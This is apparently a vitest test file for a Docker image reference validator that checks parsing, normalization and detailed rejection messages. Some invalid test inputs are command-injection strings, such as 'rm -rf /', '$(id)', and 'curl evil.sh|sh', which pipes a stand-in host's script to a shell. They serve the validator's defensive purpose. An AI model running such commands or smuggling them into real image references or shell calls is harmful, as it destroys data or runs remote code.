import { describe, expect, it } from 'vitest';
import {
  invalidReferenceMessage,
  normalizeImageReference,
  parseImageReference,
  validateImageReference,
  validateImageReferences,
} from '../../src/bake/image-reference.js';
import { AppError } from '../../src/errors.js';

const HEX = 'a3ed95caeb02ffe68cdd9fd84406680ae93d633cb16422d00e8a7c22955b46d4';
const DIGEST = `sha256:${HEX}`;

function reasonFor(ref: string): string {
  const result = validateImageReference(ref);
  if (result.ok) throw new Error(`expected ${JSON.stringify(ref)} to be invalid`);
  return result.reason;
}

describe('validateImageReference: valid references and their canonical form', () => {
  it.each([
    ['quay.io/domino/base:DED_py3.6_R3.4_23052018', 'quay.io/domino/base:DED_py3.6_R3.4_23052018'],
    ['localhost:5000/a/b:c', 'localhost:5000/a/b:c'],
    [`x@${DIGEST}`, `docker.io/library/x@${DIGEST}`],
    ['ubuntu', 'docker.io/library/ubuntu:latest'],
    [`registry.example.com:443/team/app:1.2.3@${DIGEST}`, `registry.example.com:443/team/app:1.2.3@${DIGEST}`],
    ['a__b/c-d.e:tag', 'docker.io/a__b/c-d.e:tag'],
    ['ubuntu:22.04', 'docker.io/library/ubuntu:22.04'],
    ['library/ubuntu', 'docker.io/library/ubuntu:latest'],
    ['docker.io/ubuntu', 'docker.io/library/ubuntu:latest'],
    ['index.docker.io/library/ubuntu:20.04', 'docker.io/library/ubuntu:20.04'],
    ['192.168.1.10:5000/app', '192.168.1.10:5000/app:latest'],
    ['[::1]:5000/app:v1', '[::1]:5000/app:v1'],
    ['my-registry.local/a---b:x', 'my-registry.local/a---b:x'],
    ['gcr.io/project/sub/dir/image:tag_with.dots-and-dashes', 'gcr.io/project/sub/dir/image:tag_with.dots-and-dashes'],
    ['MyRegistry/app', 'MyRegistry/app:latest'],
    ['localhost/app', 'localhost/app:latest'],
    [`ubuntu:${'t'.repeat(128)}`, `docker.io/library/ubuntu:${'t'.repeat(128)}`],
    ['app:_underscore-first', 'docker.io/library/app:_underscore-first'],
  ])('%s → %s', (ref, normalized) => {
    const result = validateImageReference(ref);
    expect(result).toMatchObject({ ok: true });
    if (result.ok) {
      expect(result.ref.normalized).toBe(normalized);
      expect(result.ref.text).toBe(ref);
    }
  });

  it('splits registry, path, tag and digest', () => {
    const ref = parseImageReference(`registry.example.com:443/team/app:1.2.3@${DIGEST}`);
    expect(ref).toMatchObject({ domain: 'registry.example.com:443', path: 'team/app', tag: '1.2.3', digest: DIGEST });
    expect(parseImageReference('ubuntu')).toMatchObject({ path: 'ubuntu' });
    expect(parseImageReference('ubuntu').domain).toBeUndefined();
    expect(Object.isFrozen(ref)).toBe(true);
  });
});

describe('validateImageReference: invalid references say exactly what is wrong', () => {
  it.each([
    ['ubuntu;rm -rf /', 'contains the shell character `;`'],
    ['ubuntu|sh', 'contains the shell character `|`'],
    ['ubuntu&&reboot', 'contains the shell character `&`'],
    ['ubuntu$HOME', 'contains the shell character `$`'],
    ['ubuntu`id`', 'contains the shell character ```'],
    ['$(rm -rf /)', 'contains the shell character `$`'],
    ['ubuntu>out', 'contains the shell character `>`'],
    ['ubuntu<in', 'contains the shell character `<`'],
    ['ubuntu*', 'contains the shell character `*`'],
    ['ubuntu\\x', 'contains the shell character `\\`'],
    ["ubuntu'", "contains the quote character `'`"],
    ['"ubuntu"', 'contains the quote character `"`'],
    ['ubuntu latest', 'contains a space'],
    [' ubuntu', 'contains a space'],
    ['ubuntu\nrm -rf /', 'contains a line break'],
    ['ubuntu\r', 'contains a line break'],
    ['ubuntu\tx', 'contains a tab'],
    ['ubuntu\u0000', 'contains the control character U+0000'],
    ['ubüntu', 'contains the non-ASCII character `ü`'],
    ['a+b', 'contains the character `+`, which is not allowed in an image reference'],
    ['Ubuntu', 'repository must be lowercase (`Ubuntu`)'],
    ['quay.io/Domino/base', 'repository must be lowercase (`Domino`)'],
    ['', 'is empty'],
    ['a'.repeat(256), 'is longer than 255 characters (it has 256)'],
    ['x@sha256:abc', 'digest must have 64 hexadecimal characters after `sha256:` (it has 3)'],
    [`x@sha256:${HEX}0`, 'digest must have 64 hexadecimal characters after `sha256:` (it has 65)'],
    [`x@sha512:${HEX}`, 'digest algorithm `sha512` is not supported; use sha256'],
    [`x@sha256:${HEX.toUpperCase()}`, 'digest must be lowercase hexadecimal'],
    [`x@sha256:${'g'.repeat(64)}`, 'digest contains `g`, which is not a hexadecimal digit'],
    ['x@latest', 'digest `latest` must look like `sha256:<64 hexadecimal characters>`'],
    [`x@${DIGEST}@${DIGEST}`, 'contains more than one `@`'],
    [':tag', 'has no repository name before `:`'],
    [`@${DIGEST}`, 'has no repository name before `@`'],
    ['ubuntu/', 'ends with `/`'],
    ['/ubuntu', 'starts with `/`'],
    ['a//b', 'contains an empty path component (`//`)'],
    ['--help', 'starts with `-`, so a command would read it as an option'],
    ['-ubuntu', 'starts with `-`, so a command would read it as an option'],
    ['ubuntu:', 'has an empty tag after `:`'],
    ['ubuntu:.hidden', 'tag `.hidden` must start with a letter, a digit or `_`'],
    [`ubuntu:${'t'.repeat(129)}`, 'tag is longer than 128 characters'],
    ['a..b', 'repository part `a..b` has an invalid separator (use one `.`, one or two `_`, or dashes)'],
    ['a___b', 'repository part `a___b` has an invalid separator (use one `.`, one or two `_`, or dashes)'],
    ['team/app_', 'repository part `app_` must start and end with a lowercase letter or digit'],
    ['_app', 'repository part `_app` must start and end with a lowercase letter or digit'],
    ['quay.io:abc/x', 'registry port `abc` must be a number'],
    ['bad_host.io/x', 'registry `bad_host.io` is not a valid host name'],
    ['-bad.io/x', 'starts with `-`, so a command would read it as an option'],
    ['bad-.io/x', 'registry `bad-.io` is not a valid host name'],
    ['a/b:c/d', 'repository part `b:c` contains `:`; a tag can only come at the end'],
    ['app[1]', 'repository part `app[1]` contains `[`, which is not allowed there'],
    [HEX, 'is a 64-character hexadecimal string, which Docker reserves for image ids'],
  ])('%j: %s', (ref, reason) => {
    expect(reasonFor(ref)).toBe(reason);
  });

  it('reports the first offending character of an injection attempt', () => {
    expect(reasonFor('quay.io/domino/base:1;curl evil.sh|sh')).toBe('contains the shell character `;`');
    expect(reasonFor('x$(id)')).toBe('contains the shell character `$`');
  });
});

describe('parseImageReference / normalizeImageReference / validateImageReferences', () => {
  it('throws AppError invalid_image_reference with a readable message', () => {
    const error = (() => {
      try {
        parseImageReference('ubuntu; rm -rf /');
      } catch (e) {
        return e;
      }
    })();
    expect(error).toBeInstanceOf(AppError);
    expect(error).toMatchObject({
      code: 'invalid_image_reference',
      message: 'The image reference "ubuntu; rm -rf /" contains the shell character `;`.',
    });
  });

  it('shortens very long references in messages', () => {
    const message = invalidReferenceMessage('a'.repeat(300), 'is longer than 255 characters (it has 300)');
    expect(message).toBe(`The image reference "${'a'.repeat(80)}…" is longer than 255 characters (it has 300).`);
  });

  it('normalizes strings and parsed references alike', () => {
    expect(normalizeImageReference('busybox')).toBe('docker.io/library/busybox:latest');
    expect(normalizeImageReference(parseImageReference('me/app:1'))).toBe('docker.io/me/app:1');
    expect(() => normalizeImageReference('BAD')).toThrow(AppError);
  });

  it('returns every invalid reference in order, with its reason', () => {
    expect(validateImageReferences(['ubuntu', 'a b', 'quay.io/x/y:1', 'Up', ''])).toEqual([
      { ref: 'a b', reason: 'contains a space' },
      { ref: 'Up', reason: 'repository must be lowercase (`Up`)' },
      { ref: '', reason: 'is empty' },
    ]);
    expect(validateImageReferences(['ubuntu', `x@${DIGEST}`])).toEqual([]);
  });
});
